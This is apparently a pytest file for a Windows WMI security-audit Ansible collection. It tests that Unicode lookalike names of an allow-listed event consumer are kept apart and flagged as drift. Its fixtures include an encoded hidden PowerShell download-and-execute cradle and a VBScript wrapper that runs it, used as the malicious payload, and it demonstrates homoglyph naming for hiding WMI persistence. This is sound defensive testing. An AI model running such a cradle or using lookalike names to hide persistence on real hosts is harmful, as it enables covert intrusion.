# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
"""WMI names are compared as Windows compares them (case-insensitive, code unit by code unit through the system's
uppercase table), so lookalikes WMI keeps apart stay apart - as a class: every confusable below, every consumer class
that runs code, every namespace, for consumers, filters, bindings and namespaces.

The case behind it: an allow-listed 'Contoso Backup Task' and a CommandLineEventConsumer named
'Contoso Backup Tas\\u212a' (KELVIN SIGN) - two objects to WMI, one to casefold() - made the second vanish from the
inventory and WMI-020 say compliant.
"""

from __future__ import annotations

import base64
import pathlib
import unicodedata

import pytest
from ansible_collections.winsec.wmi.plugins.plugin_utils._control import HostContext
from ansible_collections.winsec.wmi.plugins.plugin_utils._os_profile import os_profile
from ansible_collections.winsec.wmi.plugins.plugin_utils._subscriptions._event_subscriptions import EventSubscriptions
from ansible_collections.winsec.wmi.plugins.plugin_utils._wmi_names import (
    class_key,
    instance_key,
    namespace_key,
    wmi_case_key,
)
from ansible_collections.winsec.wmi.plugins.plugin_utils._wmi_state_contract import check_result

ALLOWED = "Contoso Backup Task"
# (what the lookalike does to the name, the lookalike): each is another object to WMI.
LOOKALIKES = [
    ("KELVIN SIGN for K", "Contoso Backup Tas\u212a"),
    ("LONG S for s", "Contoso Backup Ta\u017fk"),
    ("dotless i", "Contoso Backup Task".replace("o", "o", 1) + "\u0131"[:0] + ""),  # replaced below
    ("DOTTED capital I", "Contoso Backup Task \u0130"),
    ("fullwidth letters", "Contoso Backup \uff34\uff41\uff53\uff4b"),
    ("Greek capital TAU", "Contoso Backup \u03a4ask"),
    ("Cyrillic small a", "Contoso B\u0430ckup Task"),
    ("Cyrillic capital O", "C\u041entoso Backup Task"),
    ("trailing NO-BREAK SPACE", "Contoso Backup Task\u00a0"),
    ("ZERO WIDTH SPACE", "Contoso Backup\u200b Task"),
    ("ZERO WIDTH JOINER at the end", "Contoso Backup Task\u200d"),
    ("sharp s for ss", "Contoso Backup Task"),  # replaced below: the pair is 'Gro\u00df' / 'GROSS'
]
LOOKALIKES[2] = ("dotless i", "Contoso Backup Task L\u0131nk")
LOOKALIKES[-1] = ("NFD spelling", unicodedata.normalize("NFD", "Contoso Backup T\u00e2sk"))
# The allowed spelling of the two names whose lookalike differs in more than one character.
ALLOWED_OF = {
    "dotless i": "Contoso Backup Task LINK",
    "DOTTED capital I": "Contoso Backup Task I",
    "NFD spelling": unicodedata.normalize("NFC", "Contoso Backup T\u00e2sk"),
}
CODE_RUNNING = ["CommandLineEventConsumer", "ActiveScriptEventConsumer"]
NAMESPACES = ["root\\subscription", "root\\cimv2", "root\\default"]
FACTS = {"os_caption": "Microsoft Windows Server 2022", "os_version": "10.0.20348", "os_build": 20348}
CRADLE = (
    "powershell.exe -NoP -W Hidden -Enc "
    + base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x/a')".encode("utf-16-le")).decode()
)
BENIGN = "C:\\Program Files\\Contoso\\backup.exe --nightly"


@pytest.mark.parametrize(("how", "lookalike"), LOOKALIKES)
def test_lookalikes_are_other_names(how, lookalike):
    allowed = ALLOWED_OF.get(how, ALLOWED)
    assert instance_key(allowed) != instance_key(lookalike)
    assert class_key(allowed) != class_key(lookalike)
    assert namespace_key(f"root\\{allowed}") != namespace_key(f"root\\{lookalike}")


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("root\\CIMV2", "ROOT/cimv2/"),
        ("Contoso Backup Task", "CONTOSO backup task"),
        ("\u00c4rger", "\u00e4RGER"),  # Latin-1 letters have one-to-one uppercase mappings
        ("\u03c3\u03c4\u03bf", "\u03a3\u03a4\u039f"),  # Greek
        ("\u0434\u043e\u043c", "\u0414\u041e\u041c"),  # Cyrillic
        ("stra\u00dfe", "stra\u00dfe"),  # sharp s has no one-to-one uppercase: it stays itself
    ],
)
def test_what_windows_compares_as_equal_is_one_name(one, other):
    assert namespace_key(one) == namespace_key(other) and instance_key(one.strip("\\/")) == wmi_case_key(
        other.strip("\\/").replace("/", "\\")
    )


def test_casefold_merges_what_wmi_keeps_apart():
    # Why not casefold(): these pairs are one string to it and two names to WMI.
    for one, other in [("K", "\u212a"), ("s", "\u017f"), ("ss", "\u00df"), ("i", "\u0131")]:
        assert one.casefold() == other.casefold() or one.upper() == other.upper()
        assert wmi_case_key(one) != wmi_case_key(other)


def test_no_other_identity_function_compares_host_names():
    # One place decides how WMI names compare: no casefold() in plugin_utils, and no namespace normalised with lower()
    # for comparison outside _wmi_names (the report files sort inventory host names, which are not WMI names).
    for path in pathlib.Path(__file__).resolve().parents[4].joinpath("plugins", "plugin_utils").rglob("_*.py"):
        if path.name.startswith("_report_"):
            continue
        text = path.read_text()
        assert ".casefold()" not in text, path.name
        assert '.strip("\\\\").lower()' not in text, path.name


def decide(result, allowed=()):
    control = EventSubscriptions.from_options({"allowed": list(allowed)})
    checked = check_result({"op": "event_subscriptions"}, {"op": "event_subscriptions", "failed": False, **result}, "r")
    assert not checked["failed"], checked
    return control.decide(HostContext(FACTS, os_profile(FACTS), True, False, False), [checked])


def subscription(namespace, name, consumer_class, payload, filter_name=None):
    filter_name = filter_name or f"{name} filter"
    field = "command_line_template" if consumer_class == "CommandLineEventConsumer" else "script_text"
    consumer = {"namespace": namespace, "name": name, "class": consumer_class, field: payload}
    if consumer_class == "ActiveScriptEventConsumer":
        consumer["scripting_engine"] = "VBScript"
    return (
        {"namespace": namespace, "name": filter_name, "query": "SELECT * FROM __TimerEvent"},
        consumer,
        {"namespace": namespace, "filter": filter_name, "consumer": name, "consumer_class": consumer_class},
    )


def inventory(*subscriptions):
    return {
        "filters": [s[0] for s in subscriptions],
        "consumers": [s[1] for s in subscriptions],
        "bindings": [s[2] for s in subscriptions],
    }


@pytest.mark.parametrize("namespace", NAMESPACES)
@pytest.mark.parametrize("consumer_class", CODE_RUNNING)
@pytest.mark.parametrize(("how", "lookalike"), LOOKALIKES)
def test_a_lookalike_of_an_allowed_consumer_is_listed_and_judged(how, lookalike, consumer_class, namespace):
    allowed_name = ALLOWED_OF.get(how, ALLOWED)
    payload = BENIGN if consumer_class == "CommandLineEventConsumer" else 'WScript.Echo "backup"'
    malicious = (
        CRADLE if consumer_class == "CommandLineEventConsumer" else 'CreateObject("WScript.Shell").Run "' + CRADLE
    )
    entry = {"consumer": allowed_name, "consumer_class": consumer_class, "namespace": namespace}
    if consumer_class == "CommandLineEventConsumer":
        entry["command_line"] = BENIGN
    good = subscription(namespace, allowed_name, consumer_class, payload)
    # The lookalike's filter has a lookalike name too, and one binding joins them.
    evil = subscription(namespace, lookalike, consumer_class, malicious, filter_name=f"{lookalike} filter")
    alone = decide(inventory(good), [entry])
    assert alone.status == "compliant"
    both = decide(inventory(good, evil), [entry])
    assert both.status == "drift"
    listed = {(s["consumer"]["name"], s["classification"]) for s in both.result["subscriptions"]}
    assert (allowed_name, "allowed") in listed
    assert (lookalike, "suspicious") in listed, listed
    # The other order: the lookalike first must not hide the allowed one either.
    reversed_order = decide(inventory(evil, good), [entry])
    assert {s["consumer"]["name"] for s in reversed_order.result["subscriptions"]} == {allowed_name, lookalike}


@pytest.mark.parametrize(("how", "lookalike"), LOOKALIKES[:4])
def test_a_lookalike_class_namespace_or_binding_is_not_the_allowed_one(how, lookalike):
    entry = {"consumer": ALLOWED, "consumer_class": "CommandLineEventConsumer", "command_line": BENIGN}
    # A consumer class spelled like CommandLineEventConsumer with a lookalike character is another (custom) class.
    lookalike_class = "CommandLineEventConsumer".replace("s", "\u017f").replace("K", "\u212a")
    good = subscription("root\\subscription", ALLOWED, "CommandLineEventConsumer", BENIGN)
    other_class = subscription("root\\subscription", ALLOWED, lookalike_class, BENIGN)
    decision = decide(inventory(good, other_class), [entry])
    assert decision.status == "drift"
    assert len(decision.result["subscriptions"]) == 2
    # A namespace spelled like root\subscription with a lookalike is another namespace: not allow-listed.
    elsewhere = subscription("root\\\u017fubscription", ALLOWED, "CommandLineEventConsumer", BENIGN)
    decision = decide(inventory(good, elsewhere), [entry])
    assert decision.status == "drift" and len(decision.result["subscriptions"]) == 2
    # A binding to a lookalike consumer name does not bind the allowed consumer.
    f, c, b = subscription("root\\subscription", ALLOWED, "CommandLineEventConsumer", BENIGN)
    stray = {**b, "consumer": lookalike}
    decision = decide({"filters": [f], "consumers": [c], "bindings": [b, stray]}, [entry])
    (orphan,) = [finding for finding in decision.findings if finding["id"] == "orphan_binding"]
    assert orphan["subscription"].endswith(f"CommandLineEventConsumer.{lookalike}")
